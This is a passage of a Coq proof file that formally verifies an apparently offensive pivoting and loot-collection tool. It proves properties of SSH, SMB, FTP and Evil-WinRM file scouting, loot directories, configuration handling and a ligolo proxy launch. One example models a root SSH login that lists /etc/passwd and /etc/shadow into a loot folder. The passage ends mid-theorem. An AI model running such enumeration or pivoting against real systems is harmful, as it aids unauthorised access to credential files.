  core.dispatch req outPath w = runBackend b req outPath w.
Proof.
  intros H. unfold core.dispatch. rewrite H. destruct b; reflexivity.
Qed.

(** X6. A validated request for SSH, Evil-WinRM or SMB with a share name
    has exactly these effects, in this order: the lookup of the loot
    root, the creation of the host directory, one run of the backend's
    command and one write of the normalised output to the artifact path.
    The command is run with the defaults applied: for SSH, port 22 when
    the request gives none and depth 3 when it gives none or a negative
    one. *)
Theorem scout_attempt_effects (b : Backend) (req : FSScoutRequest) (w : World)
        (lootDir : string) (t0 : list Event) :
  Protocol req = protocolOf b ->
  shareGiven b req = true ->
  missingField req = false ->
  core.DefaultLootDir w = (lootDir, None, t0) ->
  os_MkdirAll w (fsBaseOf lootDir req) = None ->
  snd (core.RunFSScout req w)
  = (t0 ++ [EvMkdirAll (fsBaseOf lootDir req);
            EvRun (backendName b) (backendArgs b (defaulted req));
            EvWriteFile (outPathOf lootDir (time_Now_Format w core.tsLayout) req)
                        (backendArtifact b
                           (exec_Run w (backendName b) (backendArgs b (defaulted req))))])%list
  /\ backendArgs SSH (defaulted req)
     = ["-p"; itoa (portOr req 22);
        Username req ++ "@" ++ Host req;
        "find"; StartDir req;
        "-maxdepth"; itoa (depthOrDefault req);
        "-type"; "f";
        "-printf"; "%p" ++ nl].
Proof.
  intros Hp Hs M HL HM. split.
  - rewrite (RunFSScout_checked req w M), HL. cbv zeta. rewrite HM.
    destruct (defaulted_fields req) as (Dp & _ & Ds & _).
    rewrite (dispatch_backend b); [|now rewrite Dp].
    assert (Hs' : shareGiven b (defaulted req) = true).
    { destruct b; cbn [shareGiven] in *; try reflexivity. now rewrite Ds. }
    pose proof (runBackend_outcomes b (defaulted req)
                  (outPathOf lootDir (time_Now_Format w core.tsLayout) req) w Hs') as R.
    cbv zeta in R. rewrite R.
    destruct (exitErr _) as [e|]; [reflexivity|].
    destruct (os_WriteFile w _ _); reflexivity.
  - cbn [backendArgs]. unfold core.sshArgs.
    destruct (defaulted_fields req) as (_ & -> & _ & -> & _ & -> & ->).
    destruct (defaulted_values req) as [_ ->]. reflexivity.
Qed.

Lemma scout_attempt_effects_witness :
  snd (core.RunFSScout Examples.sshReq Examples.calm)
  = [EvStat "/home/op/.local/share/PivotOnTheGO";
     EvMkdirAll "/home/op/.local/share/PivotOnTheGO/loot/fs/10.0.0.5";
     EvRun "ssh" ["-p"; "22"; "root@10.0.0.5"; "find"; "/etc"; "-maxdepth"; "3";
                  "-type"; "f"; "-printf"; "%p" ++ nl];
     EvWriteFile
       "/home/op/.local/share/PivotOnTheGO/loot/fs/10.0.0.5/2024-01-01_00-00-00_ssh_fast.txt"
       ("FILE|/etc/passwd" ++ nl ++ "FILE|/etc/shadow" ++ nl
        ++ "DENIED|find: '/root': Permission denied" ++ nl)].
Proof.
  rewrite (proj1 (scout_attempt_effects SSH Examples.sshReq Examples.calm
                    Examples.lootDir [EvStat "/home/op/.local/share/PivotOnTheGO"]
                    eq_refl eq_refl eq_refl eq_refl eq_refl)).
  vm_compute. reflexivity.
Defined.

(** X7. The protocol is matched exactly, letter case included: a
    validated request whose protocol is none of "ssh", "smb", "ftp" and
    "evil-winrm" fails with "unsupported protocol", without any process
    spawned or file written, after its host directory has been
    created. *)
Theorem unsupported_protocol (req : FSScoutRequest) (w : World) :
  knownProtocol (Protocol req) = false ->
  (exists e, snd (fst (core.RunFSScout req w)) = Some e)
  /\ existsb isSpawn (snd (core.RunFSScout req w)) = false
  /\ existsb isWrite (snd (core.RunFSScout req w)) = false
  /\ (forall lootDir t0,
         missingField req = false ->
         core.DefaultLootDir w = (lootDir, None, t0) ->
         os_MkdirAll w (fsBaseOf lootDir req) = None ->
         snd (fst (core.RunFSScout req w)) = Some (errors_New "unsupported protocol")
         /\ snd (core.RunFSScout req w)
            = (t0 ++ [EvMkdirAll (fsBaseOf lootDir req)])%list).
Proof.
  intros K. destruct (missingField req) eqn:M.
  - destruct (RunFSScout_missing req w M) as [e R]. rewrite R. cbn [fst snd existsb].
    repeat split; eauto; discriminate.
  - destruct (defaulted_fields req) as (Dp & _).
    assert (Hd : forall outPath,
               core.dispatch (defaulted req) outPath w
               = (Some (errors_New "unsupported protocol"), [])).
    { intros outPath. unfold core.dispatch. rewrite Dp.
      unfold knownProtocol in K.
      apply orb_false_elim in K; destruct K as [K K4].
      apply orb_false_elim in K; destruct K as [K K3].
      apply orb_false_elim in K; destruct K as [K1 K2].
      unfold core.FSProtocolSSH, core.FSProtocolSMB, core.FSProtocolFTP,
        core.FSProtocolEvilWinRM.
      now rewrite K1, K2, K3, K4. }
    destruct (RunFSScout_refused req w _ M Hd) as (He & Hs & Hw & Hr).
    split; [exact He|]. split; [exact Hs|]. split; [exact Hw|].
    intros lootDir t0 _ HL HM. rewrite (Hr lootDir t0 HL HM). split; reflexivity.
Qed.

Lemma unsupported_protocol_witness :
  fst (core.RunFSScout (mkRequest "SSH" "10.0.0.5" 0 "root" "pw" "" "/etc" 0 "")
         Examples.calm)
  = (core.mkResult
       "/home/op/.local/share/PivotOnTheGO/loot/fs/10.0.0.5/2024-01-01_00-00-00_SSH_fast.txt"
       "SSH" "fast" "10.0.0.5" "unsupported protocol",
     Some (errors_New "unsupported protocol"))
  /\ existsb isSpawn
       (snd (core.RunFSScout (mkRequest "SSH" "10.0.0.5" 0 "root" "pw" "" "/etc" 0 "")
               Examples.calm)) = false.
Proof.
  split; [vm_compute; reflexivity|].
  exact (proj1 (proj2 (unsupported_protocol
                         (mkRequest "SSH" "10.0.0.5" 0 "root" "pw" "" "/etc" 0 "")
                         Examples.calm eq_refl))).
Defined.

End Attempt.

(** ** The host directory *)

Section HostDirectory.

Import Contract.

Lemma hasByte_mapBytes (c : ascii) (f : ascii -> ascii) (s : string) :
  (forall x, Ascii.eqb (f x) c = false) -> hasByte c (mapBytes f s) = false.
Proof.
  intros H. induction s as [|x s IH]; [reflexivity|].
  cbn [mapBytes hasByte]. now rewrite H, IH.
Qed.

Lemma sanitizeByte_not (c x : ascii) :
  c = ":"%char \/ c = "/"%char -> Ascii.eqb (sanitizeByte x) c = false.
Proof.
  intros Hc. unfold sanitizeByte.
  destruct (Ascii.eqb x ":") eqn:E1; cbn [orb].
  - destruct Hc as [-> | ->]; reflexivity.
  - destruct (Ascii.eqb x "/") eqn:E2.
    + destruct Hc as [-> | ->]; reflexivity.
    + destruct Hc as [-> | ->]; assumption.
Qed.

(** X8. Whatever the host string, its sanitised form holds no ':' and no
    '/': it is a single path element, which [filepath] never splits. *)
Theorem sanitizeHost_single_element (h : string) :
  hasByte ":"%char (core.sanitizeHost h) = false
  /\ hasByte "/"%char (core.sanitizeHost h) = false
  /\ strings.Split (core.sanitizeHost h) filepath.Separator = [core.sanitizeHost h].
Proof.
  rewrite sanitizeHost_bytes.
  assert (H1 : hasByte ":"%char (mapBytes sanitizeByte (strings.TrimSpace h)) = false)
    by (apply hasByte_mapBytes; intros x; apply sanitizeByte_not; now left).
  assert (H2 : hasByte "/"%char (mapBytes sanitizeByte (strings.TrimSpace h)) = false)
    by (apply hasByte_mapBytes; intros x; apply sanitizeByte_not; now right).
  split; [exact H1|]. split; [exact H2|].
  now apply Split_without_sep.
Qed.

Lemma Join_snoc (xs : list string) (e sep : string) :
  xs <> [] -> strings.Join (xs ++ [e]) sep = strings.Join xs sep ++ sep ++ e.
Proof.
  induction xs as [|x xs IH]; [congruence|]. intros _.
  destruct xs as [|y ys]; [reflexivity|].
  change (strings.Join ((x :: y :: ys) ++ [e]) sep)
    with (x ++ sep ++ strings.Join ((y :: ys) ++ [e]) sep).
  rewrite IH; [|discriminate].
  change (strings.Join (x :: y :: ys) sep) with (x ++ sep ++ strings.Join (y :: ys) sep).
  now rewrite !append_assoc.
Qed.

Lemma rendered_push (rooted : bool) (e o : string) (os : list string) :
  rendered rooted (e :: o :: os) = rendered rooted (o :: os) ++ "/" ++ e.
Proof.
  unfold rendered.
  assert (H : strings.Join (List.rev (e :: o :: os)) "/"
              = strings.Join (List.rev (o :: os)) "/" ++ "/" ++ e).
  { change (List.rev (e :: o :: os)) with (List.rev (o :: os) ++ [e])%list.
    apply Join_snoc. intros F. apply (f_equal (@List.length string)) in F.
    rewrite List.length_rev in F. discriminate. }
  destruct rooted; rewrite H; [now rewrite append_assoc | reflexivity].
Qed.

(** Appending a real element to a path that has an element to stand on
    appends it to the cleaned path. *)
Lemma Clean_append_elem (path elem e : string) :
  path <> "" ->
  strings.Split elem filepath.Separator = [elem] ->
  elem <> "" -> elem <> "." -> elem <> ".." ->
  strings.Split e filepath.Separator = [e] ->
  e <> "" -> e <> "." -> e <> ".." ->
  filepath.Clean ((path ++ "/" ++ elem) ++ "/" ++ e)
  = filepath.Clean (path ++ "/" ++ elem) ++ "/" ++ e.
Proof.
  intros Hp S1 A1 A2 A3 S2 B1 B2 B3.
  apply String.eqb_neq in A1, A2, A3, B1, B2, B3.
  destruct path as [|c path]; [congruence|].
  unfold filepath.Clean. cbn [append String.eqb filepath.isRooted].
  change (String c ((path ++ String "/" elem) ++ String "/" e))
    with ((String c path ++ String filepath.Separator elem) ++ String filepath.Separator e).
  change (String c (path ++ String "/" elem))
    with (String c path ++ String filepath.Separator elem).
  rewrite !Split_app, S1, S2, !fold_left_app. cbn [fold_left].
  set (r := Ascii.eqb c filepath.Separator).
  set (out := fold_left _ (strings.Split (String c path) filepath.Separator) []).
  assert (E1 : filepath.cleanStep r out elem = elem :: out)
    by (unfold filepath.cleanStep; now rewrite A1, A2, A3).
  assert (E2 : filepath.cleanStep r (elem :: out) e = e :: elem :: out)
    by (unfold filepath.cleanStep; now rewrite B1, B2, B3).
  rewrite E1, E2.
  exact (rendered_push r e elem out).
Qed.

Lemma Clean_append_elem_first (elem e : string) :
  strings.Split elem filepath.Separator = [elem] ->
  elem <> "" -> elem <> "." -> elem <> ".." ->
  strings.Split e filepath.Separator = [e] ->
  e <> "" -> e <> "." -> e <> ".." ->
  filepath.Clean (elem ++ "/" ++ e) = filepath.Clean elem ++ "/" ++ e.
Proof.
  intros S1 A1 A2 A3 S2 B1 B2 B3.
  assert (R : filepath.isRooted elem = false).
  { destruct elem as [|c elem]; [congruence|]. cbn [filepath.isRooted].
    destruct (Ascii.eqb c filepath.Separator) eqn:E; [|reflexivity].
    unfold strings.Split in S1. cbn [strings.splitCons] in S1.
    destruct (strings.splitCons elem filepath.Separator). rewrite E in S1. discriminate. }
  assert (R' : filepath.isRooted (elem ++ String filepath.Separator e) = false)
    by (rewrite isRooted_app; assumption).
  pose proof A1 as A1'. pose proof B1 as B1'.
  apply String.eqb_neq in A1, A2, A3, B1, B2, B3.
  unfold filepath.Clean. rewrite A1.
  assert (N : (elem ++ "/" ++ e =? "") = false).
  { apply String.eqb_neq. intros F. apply append_eq_nil in F. now destruct F. }
  rewrite N.
  change (elem ++ "/" ++ e) with (elem ++ String filepath.Separator e).
  rewrite R, R', Split_app, S1, S2. cbn [app fold_left].
  assert (E1 : filepath.cleanStep false [] elem = [elem])
    by (unfold filepath.cleanStep; now rewrite A1, A2, A3).
  rewrite E1.
  assert (E2 : filepath.cleanStep false [elem] e = [e; elem])
    by (unfold filepath.cleanStep; now rewrite B1, B2, B3).
  rewrite E2. reflexivity.
Qed.

(** X9. The host directory of an attempt is a direct child of
    [<loot>/fs] whenever the sanitised host is a real path element, that
    is, anything but the empty string, "." and "..": it is then the
    cleaned [<loot>/fs] followed by a separator and the sanitised host. *)
Theorem host_directory_under_fs (lootDir h : string) :
  core.sanitizeHost h <> "" ->
  core.sanitizeHost h <> "." ->
  core.sanitizeHost h <> ".." ->
  filepath.Join [lootDir; "fs"; core.sanitizeHost h]
  = filepath.Join [lootDir; "fs"] ++ "/" ++ core.sanitizeHost h.
Proof.
  intros H1 H2 H3.
  destruct (sanitizeHost_single_element h) as (_ & _ & Hs).
  cbn [filepath.Join strings.Join String.eqb].
  destruct (lootDir =? "") eqn:E.
  - apply Clean_append_elem_first; try assumption; try discriminate; reflexivity.
  - apply String.eqb_neq in E.
    replace (lootDir ++ "/" ++ "fs" ++ "/" ++ core.sanitizeHost h)
      with ((lootDir ++ "/" ++ "fs") ++ "/" ++ core.sanitizeHost h)
      by (now rewrite !append_assoc).
    apply Clean_append_elem; try assumption; try discriminate; reflexivity.
Qed.

Lemma host_directory_under_fs_witness :
  filepath.Join [Examples.lootDir; "fs"; core.sanitizeHost " 10.0.0.5:22/x "]
  = "/home/op/.local/share/PivotOnTheGO/loot/fs/10.0.0.5_22_x".
Proof.
  rewrite (host_directory_under_fs Examples.lootDir " 10.0.0.5:22/x ");
    [reflexivity | discriminate | discriminate | discriminate].
Defined.

End HostDirectory.

(** ** The loot directory and the configuration *)

Section Configuration.

Import Contract.

Lemma fresh_ret (w : World) {A : Type} (a : A) : fresh w (ret a).
Proof. intros p d []. Qed.

Lemma fresh_bind (w : World) {A B : Type} (m : IO A) (k : A -> IO B) :
  fresh w m -> fresh w (k (fst (m w))) -> fresh w (bind m k).
Proof.
  unfold fresh, freshWrites, bind. destruct (m w) as [a t1]. cbn [fst snd].
  destruct (k a w) as [b t2]. cbn [snd]. intros H1 H2 p d Hin.
  apply in_app_or in Hin. destruct Hin; eauto.
Qed.

Lemma fresh_silent (w : World) {A : Type} (m : IO A) : silent isWrite m -> fresh w m.
Proof.
  intros Hs p d Hin. specialize (Hs w).
  assert (E : existsb isWrite (snd (m w)) = true)
    by (apply existsb_exists; eexists; split; [exact Hin | reflexivity]).
  congruence.
Qed.

Lemma isWrite_fs :
  (forall p, isWrite (EvStat p) = false) /\ (forall p, isWrite (EvMkdirAll p) = false).
Proof. split; reflexivity. Qed.

Lemma fresh_writeIfNotExists (w : World) (path content : string) :
  fresh w (core.writeIfNotExists path content).
Proof.
  unfold core.writeIfNotExists. apply fresh_bind.
  - apply fresh_silent, silent_stat. reflexivity.
  - cbn [os_Stat_ fst]. destruct (os_Stat w path) as [d [e|]] eqn:E; cbn [isNil].
    + intros p c [H|[]]. assert (Hp : path = p) by congruence.
      rewrite <- Hp, E. discriminate.
    + apply fresh_ret.
Qed.

Lemma fresh_InitLootDir (w : World) : fresh w core.InitLootDir.
Proof.
  unfold core.InitLootDir. apply fresh_bind.
  - apply fresh_silent. intros w'. apply (DefaultLootDir_reads w').
  - destruct (fst (core.DefaultLootDir w)) as [lootDir [e|]]; [apply fresh_ret|].
    apply fresh_bind; [apply fresh_silent; intros w'; reflexivity|].
    cbn [os_MkdirAll_ fst]. destruct (os_MkdirAll w lootDir); [apply fresh_ret|].
    apply fresh_bind; [apply fresh_silent, silent_stat; reflexivity|].
    cbn [os_Stat_ fst].
    destruct (os_Stat w (filepath.Join [lootDir; ".initialized"])) as [d [e|]] eqn:E;
      cbn [isNil]; [|apply fresh_ret].
    apply fresh_bind; [apply fresh_writeIfNotExists|].
    destruct (fst (core.writeIfNotExists _ _ w)); [apply fresh_ret|].
    apply fresh_bind; [apply fresh_writeIfNotExists|].
    destruct (fst (core.writeIfNotExists _ _ w)); [apply fresh_ret|].
    apply fresh_bind; [apply fresh_writeIfNotExists|].
    destruct (fst (core.writeIfNotExists _ _ w)); [apply fresh_ret|].
    apply fresh_bind; [apply fresh_silent, silent_now|].
    apply fresh_bind; [|apply fresh_ret].
    unfold fresh, freshWrites, os_WriteFile_. cbn [snd].
    intros p c [H|[]].
    assert (Hp : filepath.Join [lootDir; ".initialized"] = p) by congruence.
    rewrite <- Hp, E. discriminate.
Qed.

(** X10. [InitLootDir] never overwrites a file: every file it writes,
    the three starter files and the [.initialized] marker, was reported
    missing by [os.Stat] in the same call. Once the marker exists, a call
    creates the directory (a no-op when present), checks the marker and
    stops: nothing is written and the loot root is returned. *)
Theorem InitLootDir_never_overwrites (w : World) :
  (forall path data,
      In (EvWriteFile path data) (snd (core.InitLootDir w)) ->
      snd (os_Stat w path) <> None)
  /\ (forall lootDir t0,
         core.DefaultLootDir w = (lootDir, None, t0) ->
         os_MkdirAll w lootDir = None ->
         snd (os_Stat w (filepath.Join [lootDir; ".initialized"])) = None ->
         core.InitLootDir w
         = (lootDir, None,
            (t0 ++ [EvMkdirAll lootDir;
                    EvStat (filepath.Join [lootDir; ".initialized"])])%list)).
Proof.
  split; [exact (fresh_InitLootDir w)|].
  intros lootDir t0 HL HM HS. unfold core.InitLootDir, bind.
  rewrite HL. unfold os_MkdirAll_. rewrite HM. unfold os_Stat_.
  destruct (os_Stat w (filepath.Join [lootDir; ".initialized"])) as [d serr].
  cbn [snd] in HS. subst serr. reflexivity.
Qed.

Lemma InitLootDir_never_overwrites_witness :
  core.InitLootDir Examples.calm
  = (Examples.lootDir, None,
     [EvStat "/home/op/.local/share/PivotOnTheGO";
      EvMkdirAll Examples.lootDir;
      EvStat "/home/op/.local/share/PivotOnTheGO/loot/.initialized"]).
Proof.
  rewrite (proj2 (InitLootDir_never_overwrites Examples.calm) Examples.lootDir
             [EvStat "/home/op/.local/share/PivotOnTheGO"] eq_refl eq_refl eq_refl).
  reflexivity.
Defined.

(** A first call on a host where nothing exists yet writes the three
    starter files and the marker. *)
Example InitLootDir_first_call :
  let fresh_host :=
    mkWorld ("/home/op", None) (fun _ => (false, Some os_ErrNotExist))
            (fun _ => None) (fun _ => ("", Some os_ErrNotExist)) (fun _ _ => None)
            (fun _ => (core.DefaultConfig, None))
            (fun _ => (mkRequest "" "" 0 "" "" "" "" 0 "", None))
            (fun _ => "2024-01-01T00:00:00Z") (fun _ _ => mkProc [] None)
            (fun _ _ => None) (fun _ => None) (fun _ => None) in
  map (fun e => match e with EvWriteFile p _ => p | _ => "" end)
      (filter isWrite (snd (core.InitLootDir fresh_host)))
  = ["/home/op/.local/share/PivotOnTheGO/loot/README_LOOT.txt";
     "/home/op/.local/share/PivotOnTheGO/loot/commands_linux.txt";
     "/home/op/.local/share/PivotOnTheGO/loot/commands_windows.txt";
     "/home/op/.local/share/PivotOnTheGO/loot/.initialized"].
Proof. vm_compute. reflexivity. Qed.

Lemma yields_ret {A : Type} (a : A) (w : World) (R : A -> Prop) :
  R a -> yields (ret a) w R.
Proof. intros H. exact H. Qed.

Lemma yields_bind {A B : Type} (m : IO A) (k : A -> IO B) (w : World)
      (R1 : A -> Prop) (R : B -> Prop) :
  yields m w R1 -> (forall a, R1 a -> yields (k a) w R) -> yields (bind m k) w R.
Proof.
  unfold yields, bind. destruct (m w) as [a t1]. cbn [fst]. intros H1 H2.
  specialize (H2 a H1). destruct (k a w) as [b t2]. exact H2.
Qed.

Lemma yields_any {A : Type} (m : IO A) (w : World) : yields m w (fun _ => True).
Proof. exact I. Qed.

Lemma port_or_default (p d : Z) :
  validPort d -> validPort (if core.outOfPortRange p then d else p).
Proof.
  unfold core.outOfPortRange, validPort. intros Hd.
  destruct (p <=? 0)%Z eqn:E1; [exact Hd|].
  destruct (65535 <? p)%Z eqn:E2; [exact Hd|]. cbn [orb]. lia.
Qed.

Lemma text_or_default (s d : string) : d <> "" -> (if s =? "" then d else s) <> "".
Proof. intros Hd. destruct (s =? "") eqn:E; [exact Hd|]. now apply String.eqb_neq. Qed.

Lemma Join3_nonempty (a b c : string) : b <> "" -> filepath.Join [a; b; c] <> "".
Proof.
  intros Hb. cbn [filepath.Join]. apply String.eqb_neq in Hb.
  destruct (a =? ""); [rewrite Hb|]; apply Clean_nonempty.
Qed.

Lemma SanitizeConfig_sanitized (cfg : Config) (w : World) :
  yields (core.SanitizeConfig cfg) w sanitized.
Proof.
  unfold core.SanitizeConfig.
  apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros oldAppData _.
  apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros [newAppData e0] _.
  set (pb := if strings.TrimSpace (ProxyBinary cfg) =? "" then core.defaultProxyBinary
             else strings.TrimSpace (ProxyBinary cfg)).
  assert (Hpb : pb <> "") by (apply text_or_default; discriminate).
  apply yields_bind with (R1 := fun b => b <> "").
  - destruct (pb =? _); [|now apply yields_ret].
    apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros [d err] _.
    apply yields_ret. destruct (isNil err); [|exact Hpb].
    apply Join3_nonempty. discriminate.
  - intros proxyBinary Hb.
    apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros fileDirectory _.
    apply yields_ret. unfold sanitized.
    cbn [ProxyPort FilePort ProxyBind ProxyBinary AgentBinary FileBind].
    split; [apply port_or_default; unfold validPort, core.defaultProxyPort; lia|].
    split; [apply port_or_default; unfold validPort; lia|].
    split; [apply text_or_default; discriminate|].
    split; [exact Hb|].
    split; apply text_or_default; discriminate.
Qed.

Lemma quiet_spawn_SanitizeConfig (cfg : Config) : silent isSpawn (core.SanitizeConfig cfg).
Proof. apply silent_SanitizeConfig; reflexivity. Qed.

(** X11. Whatever configuration it is given and whatever the state of the
    disk, [SanitizeConfig] returns one whose proxy and file ports lie in
    1..65535 and whose proxy bind address, proxy binary, agent binary and
    file bind address are not empty; the public IP is the given one,
    trimmed. It spawns no process. *)
Theorem SanitizeConfig_postcondition (cfg : Config) (w : World) :
  validPort (ProxyPort (fst (core.SanitizeConfig cfg w)))
  /\ validPort (FilePort (fst (core.SanitizeConfig cfg w)))
  /\ ProxyBind (fst (core.SanitizeConfig cfg w)) <> ""
  /\ ProxyBinary (fst (core.SanitizeConfig cfg w)) <> ""
  /\ AgentBinary (fst (core.SanitizeConfig cfg w)) <> ""
  /\ FileBind (fst (core.SanitizeConfig cfg w)) <> ""
  /\ PublicIP (fst (core.SanitizeConfig cfg w)) = strings.TrimSpace (PublicIP cfg)
  /\ existsb isSpawn (snd (core.SanitizeConfig cfg w)) = false.
Proof.
  pose proof (SanitizeConfig_sanitized cfg w) as (H1 & H2 & H3 & H4 & H5 & H6).
  repeat (split; [assumption|]). split; [|apply quiet_spawn_SanitizeConfig].
  assert (H : yields (core.SanitizeConfig cfg) w
                     (fun c => PublicIP c = strings.TrimSpace (PublicIP cfg))).
  { unfold core.SanitizeConfig.
    apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros oldAppData _.
    apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros [newAppData e0] _.
    apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros proxyBinary _.
    apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros fileDirectory _.
    apply yields_ret. reflexivity. }
  exact H.
Qed.

Example SanitizeConfig_ex :
  fst (core.SanitizeConfig (mkConfig "  " 70000 " 10.10.14.3 " "" " agent.bin " "" (-1) "/srv")
         Examples.calm)
  = mkConfig "127.0.0.1" 11601 "10.10.14.3" "/opt/ligolo/proxy" "agent.bin"
             "0.0.0.0" 8000 "/srv".
Proof. vm_compute. reflexivity. Qed.

Lemma DefaultConfig_sanitized : sanitized core.DefaultConfig.
Proof.
  unfold sanitized, validPort. cbn. repeat split; try lia; discriminate.
Qed.

Lemma LoadConfig_cases (w : World) :
  yields core.LoadConfig w
         (fun r => sanitized (fst r)
                   /\ (snd r <> None -> fst r = core.DefaultConfig)).
Proof.
  unfold core.LoadConfig.
  apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros [path [e|]] _.
  - apply yields_ret. split; [apply DefaultConfig_sanitized | reflexivity].
  - apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros [data [e|]] _.
    + destruct (isNotExist e); apply yields_ret;
        (split; [apply DefaultConfig_sanitized | reflexivity]).
    + apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros [cfg [e|]] _.
      * apply yields_ret. split; [apply DefaultConfig_sanitized | reflexivity].
      * apply yields_bind with (R1 := sanitized); [apply SanitizeConfig_sanitized|].
        intros c Hc. apply yields_ret. split; [exact Hc | intros H; now elim H].
Qed.

(** X12. [LoadConfig] always returns a usable configuration: ports in
    1..65535 and non-empty bind addresses and binaries, with or without an
    error; whenever it reports an error (no home directory, unreadable or
    missing file, malformed JSON) the configuration is exactly
    [DefaultConfig]. It spawns no process. *)
Theorem LoadConfig_total (w : World) :
  sanitized (fst (fst (core.LoadConfig w)))
  /\ (snd (fst (core.LoadConfig w)) <> None
      -> fst (fst (core.LoadConfig w)) = core.DefaultConfig)
  /\ existsb isSpawn (snd (core.LoadConfig w)) = false.
Proof.
  pose proof (LoadConfig_cases w) as [H1 H2].
  split; [exact H1|]. split; [exact H2|].
  apply silent_LoadConfig; reflexivity.
Qed.

(** A configuration file that does not parse gives the defaults and the
    parser's error. *)
Example LoadConfig_malformed :
  fst (core.LoadConfig
         (mkWorld ("/home/op", None) (fun _ => (false, None)) (fun _ => None)
                  (fun _ => ("{", None)) (fun _ _ => None)
                  (fun _ => (mkConfig "x" 1 "x" "x" "x" "x" 1 "x",
                             Some (errors_New "unexpected end of JSON input")))
                  (fun _ => (mkRequest "" "" 0 "" "" "" "" 0 "", None))
                  (fun _ => "") (fun _ _ => mkProc [] None)
                  (fun _ _ => None) (fun _ => None) (fun _ => None)))
  = (core.DefaultConfig, Some (errors_New "unexpected end of JSON input")).
Proof. vm_compute. reflexivity. Qed.

Lemma yields_stat (w : World) (p : string) :
  yields (os_Stat_ p) w (fun a => a = os_Stat w p).
Proof. reflexivity. Qed.

Lemma yields_self {A : Type} (m : IO A) (w : World) :
  yields m w (fun a => a = fst (m w)).
Proof. reflexivity. Qed.

(** The fields of the sanitised configuration that depend on the given
    configuration alone. *)
Lemma SanitizeConfig_fields (cfg : Config) (w : World) :
  yields (core.SanitizeConfig cfg) w
    (fun c =>
       ProxyBind c = (if strings.TrimSpace (ProxyBind cfg) =? "" then core.defaultProxyBind
                      else strings.TrimSpace (ProxyBind cfg))
       /\ ProxyPort c = (if core.outOfPortRange (ProxyPort cfg) then core.defaultProxyPort
                         else ProxyPort cfg)
       /\ PublicIP c = strings.TrimSpace (PublicIP cfg)
       /\ FileBind c = (if strings.TrimSpace (FileBind cfg) =? "" then "0.0.0.0"
                        else strings.TrimSpace (FileBind cfg))
       /\ FilePort c = (if core.outOfPortRange (FilePort cfg) then 8000%Z
                        else FilePort cfg)).
Proof.
  unfold core.SanitizeConfig.
  apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros oldAppData _.
  apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros [newAppData e0] _.
  apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros proxyBinary _.
  apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros fileDirectory _.
  apply yields_ret. repeat split.
Qed.

(** The proxy binary of the sanitised configuration: the configured one,
    trimmed, or the default; moved to the new application data directory
    when it is the legacy install path and the new one exists. *)
Lemma SanitizeConfig_proxy_binary (cfg : Config) (w : World) :
  yields (core.SanitizeConfig cfg) w
    (fun c =>
       ProxyBinary c
       = (if strings.TrimSpace (ProxyBinary cfg) =? "" then core.defaultProxyBinary
          else strings.TrimSpace (ProxyBinary cfg))
       \/ ((if strings.TrimSpace (ProxyBinary cfg) =? "" then core.defaultProxyBinary
            else strings.TrimSpace (ProxyBinary cfg))
           = filepath.Join [fst (core.LegacyAppDataDirPath w); "ligolo"; "proxy"]
           /\ ProxyBinary c
              = filepath.Join [fst (fst (core.DefaultAppDataDir w)); "ligolo"; "proxy"]
           /\ snd (os_Stat w (filepath.Join [fst (fst (core.DefaultAppDataDir w));
                                             "ligolo"; "proxy"])) = None)).
Proof.
  unfold core.SanitizeConfig.
  apply (yields_bind _ _ _ _ _ (yields_self _ w)). intros oldAppData ->.
  apply (yields_bind _ _ _ _ _ (yields_self _ w)). intros [newAppData e0] Hn.
  assert (Hnew : fst (fst (core.DefaultAppDataDir w)) = newAppData) by now rewrite <- Hn.
  rewrite Hnew. clear Hn Hnew.
  set (pb := if strings.TrimSpace (ProxyBinary cfg) =? "" then core.defaultProxyBinary
             else strings.TrimSpace (ProxyBinary cfg)).
  set (oldProxy := filepath.Join [fst (core.LegacyAppDataDirPath w); "ligolo"; "proxy"]).
  set (newProxy := filepath.Join [newAppData; "ligolo"; "proxy"]).
  apply yields_bind
    with (R1 := fun b => b = pb
                         \/ (pb = oldProxy /\ b = newProxy
                             /\ snd (os_Stat w newProxy) = None)).
  - destruct (pb =? oldProxy) eqn:E; [|apply yields_ret; now left].
    apply String.eqb_eq in E.
    apply (yields_bind _ _ _ _ _ (yields_stat w _)). intros [d [e|]] Hs.
    + apply yields_ret. now left.
    + apply yields_ret. right. repeat split; try assumption. now rewrite <- Hs.
  - intros proxyBinary Hb.
    apply (yields_bind _ _ _ _ _ (yields_any _ w)). intros fileDirectory _.
    apply yields_ret. exact Hb.
Qed.

(** X13. [StartProxy] makes exactly one attempt to start a process, the
    last of its effects and the only spawn: the proxy binary of the
    sanitised configuration with the arguments [-laddr <bind>:<port>
    -selfcert]. The bind address is the configured one trimmed, or
    127.0.0.1 when that is empty; the port is the configured proxy port,
    or 11601 when that is outside 1..65535; the binary is never empty and
    is the configured one trimmed (or /opt/ligolo/proxy when that is
    empty), replaced by the binary of the new application data directory
    only when it is the legacy install path and the new binary exists.
    [StartProxy] returns the command built from this name and these
    arguments together with the outcome of the start; the command carries
    a process exactly when the start succeeded. *)
Theorem StartProxy_command (cfg : Config) (w : World) :
  exists c t,
    core.SanitizeConfig cfg w = (c, t)
    /\ existsb isSpawn t = false
    /\ ProxyBind c = (if strings.TrimSpace (ProxyBind cfg) =? "" then "127.0.0.1"
                      else strings.TrimSpace (ProxyBind cfg))
    /\ ProxyPort c = (if core.outOfPortRange (ProxyPort cfg) then 11601%Z
                      else ProxyPort cfg)
    /\ ProxyBinary c <> ""
    /\ (ProxyBinary c
        = (if strings.TrimSpace (ProxyBinary cfg) =? "" then "/opt/ligolo/proxy"
           else strings.TrimSpace (ProxyBinary cfg))
        \/ ((if strings.TrimSpace (ProxyBinary cfg) =? "" then "/opt/ligolo/proxy"
             else strings.TrimSpace (ProxyBinary cfg))
            = filepath.Join [fst (core.LegacyAppDataDirPath w); "ligolo"; "proxy"]
